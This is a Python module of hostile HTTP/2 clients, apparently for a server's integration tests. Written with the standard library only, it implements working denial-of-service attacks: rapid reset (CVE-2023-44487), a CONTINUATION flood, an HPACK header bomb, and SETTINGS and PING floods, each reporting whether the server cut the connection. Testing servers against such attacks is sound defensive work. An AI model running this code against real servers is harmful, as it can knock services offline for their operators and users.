"""Hostile HTTP/2 clients for the integration tests, written with the standard
library only: TLS with ALPN "h2", frames built by hand and a minimal HPACK encoder
(literal fields without Huffman coding, plus indexed references for header bombs).

Each attack returns an Outcome: whether the server answered with GOAWAY (and its error
code) or closed the connection, and how much of the attack it accepted."""

import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB


# -- HPACK (RFC 7541) -------------------------------------------------------------------

def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value, index=False):
    """Literal field with a literal name: without indexing (0x00) or with incremental
    indexing (0x40), which puts it in the decoder's dynamic table at index 62."""
    return bytes([0x40 if index else 0x00]) + hpack_string(name) + hpack_string(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def request_block(path="/", method="GET", authority="localhost", extra=()):
    block = b"".join(literal(n, v) for n, v in
                     ((":method", method), (":scheme", "https"), (":authority", authority),
                      (":path", path)))
    return block + b"".join(literal(n, v) for n, v in extra)


# -- frames -----------------------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def rst_stream(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping(data=b"12345678"):
    return frame(PING, 0, 0, data)


class Outcome:
    def __init__(self):
        self.goaway = None       # GOAWAY error code, if one arrived
        self.closed = False      # the server closed the connection
        self.sent_bytes = 0
        self.send_failed = False  # the server stopped taking our bytes
        self.responses = 0       # HEADERS frames received (answers that were sent)
        self.resets = 0          # RST_STREAM frames received

    def ended(self):
        return self.goaway is not None or self.closed

    def __repr__(self):
        return (f"<Outcome goaway={self.goaway} closed={self.closed} sent={self.sent_bytes} "
                f"send_failed={self.send_failed} responses={self.responses} resets={self.resets}>")


class Connection:
    """An HTTP/2 connection that speaks only when told to."""

    def __init__(self, port, host="127.0.0.1", timeout=10.0):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=timeout)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise AssertionError(f"ALPN chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.outcome = Outcome()
        self._buf = b""
        self.send(PREFACE + settings())

    def send(self, data):
        try:
            self.sock.sendall(data)
            self.outcome.sent_bytes += len(data)
            return True
        except (OSError, ssl.SSLError):
            self.outcome.send_failed = True
            return False

    def read_until_end(self, timeout=10.0, enough=lambda outcome: False):
        """Reads frames until GOAWAY, EOF, enough(outcome) or `timeout`; acknowledges the
        server's SETTINGS."""
        deadline = time.monotonic() + timeout
        while not (self.outcome.ended() or enough(self.outcome)) and time.monotonic() < deadline:
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except (OSError, ssl.SSLError):
                self.outcome.closed = True
                break
            if not chunk:
                self.outcome.closed = True
                break
            self._buf += chunk
            self._parse()
        return self.outcome

    def _parse(self):
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[0:3], "big")
            if len(self._buf) < 9 + length:
                return
            ftype, flags = self._buf[3], self._buf[4]
            payload = self._buf[9:9 + length]
            self._buf = self._buf[9 + length:]
            if ftype == GOAWAY and len(payload) >= 8:
                self.outcome.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == HEADERS:
                self.outcome.responses += 1
            elif ftype == RST_STREAM:
                self.outcome.resets += 1

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def _run(port, chunks, timeout, enough=lambda outcome: False):
    conn = Connection(port)
    try:
        for chunk in chunks:
            if not conn.send(chunk):
                break
        return conn.read_until_end(timeout, enough)
    finally:
        conn.close()


def rapid_reset(port, path, streams=5000, per_write=200, timeout=10.0):
    """HEADERS immediately followed by RST_STREAM, `streams` times (CVE-2023-44487)."""
    block = request_block(path)

    def chunks():
        sid = 1
        for _ in range(0, streams, per_write):
            out = bytearray()
            for _ in range(per_write):
                out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block) + rst_stream(sid)
                sid += 2
            yield bytes(out)
    return _run(port, chunks(), timeout)


def continuation_flood(port, frames=2000, frame_size=16000, timeout=10.0):
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end the
    block, each full of fresh header fields."""
    def chunks():
        yield frame(HEADERS, END_STREAM, 1, request_block("/"))
        for i in range(frames):
            field = literal(f"x-flood-{i}", "v" * (frame_size - 40))
            yield frame(CONTINUATION, 0, 1, field)
    return _run(port, chunks(), timeout)


def header_bomb(port, streams=50, value_size=3000, repeats=2000, timeout=10.0):
    """Requests whose header list is one large field indexed once and then referenced
    `repeats` times: tiny on the wire, megabytes once decoded (an HPACK bomb)."""
    def chunks():
        sid = 1
        for i in range(streams):
            block = request_block("/")
            if i == 0:
                block += literal("x-bomb", "b" * value_size, index=True)
            block += indexed(62) * repeats
            yield frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
            sid += 2
    return _run(port, chunks(), timeout, lambda o: o.resets + o.responses >= streams)


def settings_flood(port, frames=5000, timeout=10.0):
    flood = settings([(0x2, 0)]) * 100  # ENABLE_PUSH = 0, a hundred per write
    return _run(port, (flood for _ in range(frames // 100)), timeout)


def ping_flood(port, frames=5000, timeout=10.0):
    flood = ping() * 100
    return _run(port, (flood for _ in range(frames // 100)), timeout)
